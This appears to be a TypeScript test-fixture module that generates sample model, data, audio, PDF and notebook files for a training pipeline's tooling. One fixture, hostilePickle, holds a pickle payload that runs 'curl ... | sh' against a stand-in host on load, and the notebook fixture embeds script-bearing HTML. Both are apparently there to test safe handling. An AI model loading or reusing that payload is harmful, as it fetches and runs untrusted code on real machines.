import { between, round, unit } from '../random.ts';

/** Files as steps of a training write them, in bytes of their own format. */

const encoder = new TextEncoder();

export function join(parts: readonly Uint8Array[]): Uint8Array {
  const bytes = new Uint8Array(parts.reduce((sum, part) => sum + part.length, 0));
  let at = 0;
  for (const part of parts) {
    bytes.set(part, at);
    at += part.length;
  }
  return bytes;
}

/** A small encoder of a transformer: names and shapes as they are found in the wild. */
export function safetensors(seed: number): Uint8Array {
  const shapes: readonly (readonly [name: string, shape: readonly number[]])[] = [
    ['encoder.embed.weight', [512, 24]],
    ...[0, 1, 2, 3].flatMap((layer): (readonly [string, readonly number[]])[] => [
      [`encoder.layers.${layer}.attention.weight`, [24, 24]],
      [`encoder.layers.${layer}.feed.weight`, [24, 48]],
    ]),
    ['encoder.norm.weight', [24]],
    ['head.out.weight', [7, 24]],
    ['head.out.bias', [7]],
  ];
  let at = 0;
  const header: Record<string, unknown> = { __metadata__: { format: 'pt', producer: 'halden.steps.train' } };
  for (const [name, shape] of shapes) {
    const length = shape.reduce((a, b) => a * b, 1) * 4;
    header[name] = { dtype: 'F32', shape, data_offsets: [at, at + length] };
    at += length;
  }
  const text = encoder.encode(JSON.stringify(header));
  const head = new Uint8Array(8);
  new DataView(head.buffer).setBigUint64(0, BigInt(text.length), true);
  const weights = Float32Array.from({ length: at / 4 }, (_, i) => unit(seed, i % 997) - 0.5);
  return join([head, text, new Uint8Array(weights.buffer)]);
}

/** 64 × 16 numbers. */
export function npy(seed: number): Uint8Array {
  const dict = "{'descr': '<f8', 'fortran_order': False, 'shape': (64, 16), }";
  // The values begin at a multiple of 64.
  const text = encoder.encode(`${dict.padEnd(117)}\n`);
  const head = Uint8Array.from([0x93, ...encoder.encode('NUMPY'), 1, 0, text.length & 0xff, text.length >> 8]);
  const values = Float64Array.from({ length: 64 * 16 }, (_, i) => round(unit(seed, i) * 2 - 1, 4));
  return join([head, text, new Uint8Array(values.buffer)]);
}

const short = (text: string): number[] => [0x8c, text.length, ...encoder.encode(text), 0x94];

/** An encoder of scikit-learn, protocol 4. */
export function pickle(): Uint8Array {
  const body = [
    ...short('sklearn.preprocessing._encoders'),
    ...short('OrdinalEncoder'),
    ...[0x93, 0x94, 0x29, 0x81, 0x94, 0x7d, 0x94, 0x28],
    ...short('categories'),
    ...short('auto'),
    ...short('dtype'),
    ...short('numpy'),
    ...short('float64'),
    ...[0x93, 0x94],
    ...short('handle_unknown'),
    ...short('error'),
    ...[0x75, 0x62, 0x2e],
  ];
  const frame = new Uint8Array(8);
  new DataView(frame.buffer).setBigUint64(0, BigInt(body.length), true);
  return Uint8Array.from([0x80, 4, 0x95, ...frame, ...body]);
}

/** What an attacker would leave in a shared store: it would run a command when it is loaded. Harmless as bytes. */
export const hostilePickle = (): Uint8Array => encoder.encode("cposix\nsystem\n(S'curl https://halden.example/x | sh'\ntR.");

/** One second of a reversing truck: 8 bits, 8 kHz. */
export function wav(): Uint8Array {
  const rate = 8_000;
  const samples = Uint8Array.from({ length: rate }, (_, i) =>
    Math.floor(i / 2_000) % 2 ? 128 : 128 + Math.round(40 * Math.sin((i * 2 * Math.PI * 1_000) / rate)),
  );
  const head = new DataView(new ArrayBuffer(44));
  const letters = (at: number, text: string): void => encoder.encode(text).forEach((code, i) => head.setUint8(at + i, code));
  letters(0, 'RIFF');
  head.setUint32(4, 36 + samples.length, true);
  letters(8, 'WAVEfmt ');
  head.setUint32(16, 16, true);
  head.setUint16(20, 1, true);
  head.setUint16(22, 1, true);
  head.setUint32(24, rate, true);
  head.setUint32(28, rate, true);
  head.setUint16(32, 1, true);
  head.setUint16(34, 8, true);
  letters(36, 'data');
  head.setUint32(40, samples.length, true);
  return join([new Uint8Array(head.buffer), samples]);
}

/** A page of a report. */
export function pdf(name: string, seed: number): Uint8Array {
  const stream = `BT /F1 18 Tf 56 760 Td (${name}) Tj 0 -32 Td /F1 11 Tf (mape ${round(5 + unit(seed) * 6)} % over ${between(10, 90, seed)},000 parcels) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Title (${name}) /Producer (halden.steps.report) >>`,
  ];
  let text = '%PDF-1.7\n';
  const starts: number[] = [];
  for (const [i, object] of objects.entries()) {
    starts.push(text.length);
    text += `${i + 1} 0 obj\n${object}\nendobj\n`;
  }
  const table = starts.map((start) => `${String(start).padStart(10, '0')} 00000 n \n`).join('');
  return encoder.encode(
    `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Info 6 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
  );
}

/** A notebook whose cells put out text, a picture, HTML that must not run, and an error. */
export function notebook(name: string, seed: number, picture: Uint8Array): string {
  const code = (count: number, source: string, outputs: unknown[]) => ({
    cell_type: 'code',
    execution_count: count,
    metadata: {},
    source,
    outputs,
  });
  let image = '';
  for (const byte of picture) image += String.fromCharCode(byte);
  return JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: 'python3', language: 'python' } },
    cells: [
      {
        cell_type: 'markdown',
        metadata: {},
        source: [`# Backtest, 28 days\n`, `\n`, `Compare **${name}** with the champion by distance.`],
      },
      code(7, 'df = backtest("v48", days=28)\ndf.groupby("band").mape.mean().plot.bar()  # by distance', [
        { output_type: 'stream', name: 'stdout', text: [`read ${between(10_000, 90_000, seed)} parcels\n`, '\u001B[32mdone\u001B[0m\n'] },
        { output_type: 'display_data', data: { 'image/png': btoa(image), 'text/plain': '<Axes: xlabel="band">' }, metadata: {} },
      ]),
      code(8, 'df.describe().T.style', [
        {
          output_type: 'execute_result',
          execution_count: 8,
          metadata: {},
          data: {
            'text/html': '<table><tr><td onclick="hurt()">mape</td></tr></table><script>hurt()</script>',
            'text/plain': '<Styler at 0x7f2b>',
          },
        },
      ]),
      code(9, 'df["rain_flag"]', [
        {
          output_type: 'error',
          ename: 'KeyError',
          evalue: "'rain_flag'",
          traceback: ['\u001B[31mKeyError\u001B[0m: rain_flag', '  at line 1'],
        },
      ]),
    ],
  });
}
